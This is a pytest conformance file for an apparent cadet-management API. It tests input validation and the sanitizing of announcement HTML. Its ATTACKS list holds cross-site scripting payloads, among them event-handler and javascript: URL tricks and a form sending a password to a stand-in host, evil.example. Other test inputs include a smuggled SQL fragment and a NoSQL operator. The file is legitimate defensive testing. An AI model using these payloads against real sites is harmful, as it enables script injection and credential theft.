"""R20.1, R20.3: what is not what was asked for is refused by name; HTML comes back harmless."""

import json
from collections.abc import Mapping
from html.parser import HTMLParser
from secrets import token_hex
from typing import Any

import httpx
import pytest

from conformance.criteria.people import done, told
from conformance.criterion import criterion

API = "/api/v1/"
CADETS, DAYS, LEDGER = f"{API}cadets/", f"{API}training-days/", f"{API}ledger/"
ANNOUNCEMENTS, MESSAGES = f"{API}announcements/", f"{API}messages/"

DAY = {"date": "2026-08-01", "title": "Drill"}
CADET = {"student_id": "x", "first_name": "A", "last_name": "B", "account": False}
MERIT = {"cadet": 1, "type": "merit", "points": 5, "reason": "Colours"}

# What is sent where, and the field that is wrong in it.
WRONG: list[tuple[str, Mapping[str, Any], str]] = [
    (DAYS, {**DAY, "date": "2026-02-30"}, "date"),
    (DAYS, {**DAY, "date": "tomorrow"}, "date"),
    (DAYS, {**DAY, "date": 20260801}, "date"),
    (DAYS, {**DAY, "date": None}, "date"),
    (DAYS, {**DAY, "title": 5}, "title"),
    (DAYS, {**DAY, "title": ["Drill"]}, "title"),
    (DAYS, {**DAY, "title": ""}, "title"),
    (DAYS, {**DAY, "title": "x" * 100_000}, "title"),
    (DAYS, {**DAY, "title": "Dr\x00ill"}, "title"),
    (DAYS, {**DAY, "title": "\ud800"}, "title"),
    (DAYS, {"title": "Drill"}, "date"),
    (DAYS, {**DAY, "id": 7}, "id"),
    (DAYS, {**DAY, "is_admin": True}, "is_admin"),
    (CADETS, {**CADET, "birthdate": "2026-13-01"}, "birthdate"),
    (CADETS, {**CADET, "email": "nobody"}, "email"),
    (CADETS, {**CADET, "student_id": "  "}, "student_id"),
    (CADETS, {**CADET, "account": "perhaps"}, "account"),
    (CADETS, {**CADET, "first_name": {"$gt": ""}}, "first_name"),
    (LEDGER, {**MERIT, "points": "many"}, "points"),
    (LEDGER, {**MERIT, "points": -5}, "points"),
    (LEDGER, {**MERIT, "points": 0}, "points"),
    (LEDGER, {**MERIT, "points": 1e300}, "points"),
    (LEDGER, {**MERIT, "points": 10**30}, "points"),
    (LEDGER, {**MERIT, "points": 1.5}, "points"),
    (LEDGER, {**MERIT, "points": True}, "points"),
    (LEDGER, {**MERIT, "points": "5"}, "points"),
    (LEDGER, {**MERIT, "cadet": True}, "cadet"),
    (LEDGER, {**MERIT, "type": "praise"}, "type"),
    (LEDGER, {**MERIT, "cadet": "1; DROP"}, "cadet"),
    (LEDGER, {**MERIT, "cadet": 10**30}, "cadet"),
]
ASKED_WRONGLY = [
    ("cadets/", "colour", "red"),
    ("cadets/", "archived", "perhaps"),
    ("cadets/", "search", "x" * 500),
    ("training-days/", "since", "2026-02-30"),
    ("ledger/", "cadet", "first"),
    ("ledger/", "type", "praise"),
    ("audit/", "since", "yesterday"),
    ("users/", "role", "king"),
]
ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">here</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">here</a>',
    '<a href="data:text/html,<script>alert(1)</script>">here</a>',
    "<iframe src=//evil.example></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img onerror=a()&gt;>",
    "<p style=background:url(javascript:alert(1))>x</p>",
    '<form action="//evil.example"><input name=password></form>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<base href=//evil.example>",
    "<object data=//evil.example></object>",
    '<p onclick="alert(1)">x</p>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
)
HARMLESS_TAGS = {
    "a",
    "b",
    "blockquote",
    "br",
    "em",
    "h2",
    "h3",
    "h4",
    "hr",
    "i",
    "li",
    "ol",
    "p",
    "s",
} | {"strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "u", "ul"}


class Seen(HTMLParser):
    """The tags of a text as a browser would see them, and where their attributes lead."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.addresses: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]


@criterion("R20.1")
@pytest.mark.parametrize(("path", "sent", "field"), WRONG, ids=lambda value: str(value)[:60])
def test_input_of_the_wrong_type_or_form_is_refused_by_the_fields_name(
    path: str, sent: Mapping[str, Any], field: str, admin: httpx.Client
) -> None:
    answer = _post(admin, path, sent)

    assert told(answer) == (400, "invalid_input")
    assert [name.split(".")[0] for name in answer.json()["errors"]] == [field]


@criterion("R20.1")
@pytest.mark.parametrize(("path", "name", "value"), ASKED_WRONGLY)
def test_a_parameter_that_is_unknown_or_wrong_is_refused_by_its_name(
    path: str, name: str, value: str, admin: httpx.Client
) -> None:
    answer = admin.get(f"{API}{path}", params={name: value})

    assert told(answer) == (400, "invalid_input")
    assert list(answer.json()["errors"]) == [name]


@criterion("R20.1")
@pytest.mark.parametrize(
    ("body", "kind", "expected"),
    [
        (b"{", "application/json", (400, "malformed_json")),
        (b"[]", "application/json", (400, "invalid_input")),
        (b'{"date": Infinity}', "application/json", (400, "malformed_json")),
        (b'"text"', "application/json", (400, "invalid_input")),
        (b"null", "application/json", (400, "invalid_input")),
        (b"\xff\xfe", "application/json", (400, "malformed_json")),
        (b"[" * 100_000, "application/json", (400, "malformed_json")),
        (b"<day/>", "application/xml", (415, "unsupported_media_type")),
        (b"date=2026-08-01", "application/x-www-form-urlencoded", (415, "unsupported_media_type")),
        (b"{" + b" " * 2_000_000 + b"}", "application/json", (413, "too_large")),
    ],
    ids=lambda value: str(value)[:40],
)
def test_a_body_that_nobody_can_read_is_refused(
    body: bytes, kind: str, expected: tuple[int, str], admin: httpx.Client
) -> None:
    answer = admin.post(DAYS, content=body, headers={"Content-Type": kind})

    assert told(answer) == expected


@criterion("R20.3")
@pytest.mark.parametrize("attack", ATTACKS)
def test_html_comes_back_without_anything_that_a_browser_would_run(
    attack: str, admin: httpx.Client, cadet: httpx.Client
) -> None:
    given = {"title": "News", "description": f"<p>Formation at <b>0600</b></p>{attack}"}

    made = done(admin.post(ANNOUNCEMENTS, json=given))
    read = done(cadet.get(f"{ANNOUNCEMENTS}{made['id']}/"))
    done(admin.patch(f"{ANNOUNCEMENTS}{made['id']}/", json={"description": attack}))
    changed = done(cadet.get(f"{ANNOUNCEMENTS}{made['id']}/"))

    for shown in (read["description"], changed["description"]):
        seen = Seen(shown)
        assert seen.tags <= HARMLESS_TAGS
        assert seen.attributes <= {"href", "title", "rel"}
        assert all(one.startswith(("http:", "https:", "mailto:")) for one in seen.addresses)
    assert read["description"].startswith("<p>Formation at <b>0600</b></p>")


@criterion("R20.3")
def test_harmless_html_comes_back_as_it_was_written(admin: httpx.Client) -> None:
    text = "<h2>Rules</h2><ul><li>Be <em>early</em></li><li>R&amp;D, Ñ, 5 &lt; 6</li></ul>"

    made = done(admin.post(ANNOUNCEMENTS, json={"title": "Rules", "description": text}))

    assert made["description"] == text


@criterion("R20.3")
@pytest.mark.parametrize("attack", ATTACKS[:4])
def test_a_field_that_holds_no_html_keeps_what_was_typed_and_no_browser_takes_it_for_html(
    attack: str, admin: httpx.Client
) -> None:
    made = done(admin.post(DAYS, json={**DAY, "title": f"{attack} {token_hex(4)}"}))
    answer = admin.get(f"{DAYS}{made['id']}/")

    assert answer.json()["title"] == made["title"]
    assert made["title"].startswith(attack)
    assert answer.headers["Content-Type"] == "application/json"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def _post(client: httpx.Client, path: str, sent: Mapping[str, Any]) -> httpx.Response:
    body = json.dumps(sent)
    return client.post(path, content=body, headers={"Content-Type": "application/json"})
